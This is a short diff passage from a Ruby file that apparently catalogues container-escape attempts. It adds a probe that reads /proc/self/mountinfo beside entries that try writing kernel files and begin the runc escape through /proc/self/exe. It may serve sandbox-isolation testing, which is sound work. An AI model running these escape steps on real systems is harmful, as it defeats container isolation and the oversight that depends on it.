@@ -32,6 +32,7 @@ ESCAPES = {
     TARGETS.to_h { |path| [path, enum_for(:each_way, path).to_a.select { |_, result| [nil, 0, 1, "allowed"].include?(result) }.map(&:first)] }
   },
   "kernel" => ->(_) { KERNEL.to_h { |path, text| [path, attempt { File.write(path, text) }] } },
+  "mounts" => ->(_) { File.readlines("/proc/self/mountinfo").map { |line| line.split.values_at(4, 5) } },
   # The way out of runc: hold on to the interpreter's own file while another program takes its place.
   "own program" => lambda { |_|
     held = File.open("/proc/self/exe", "rb")
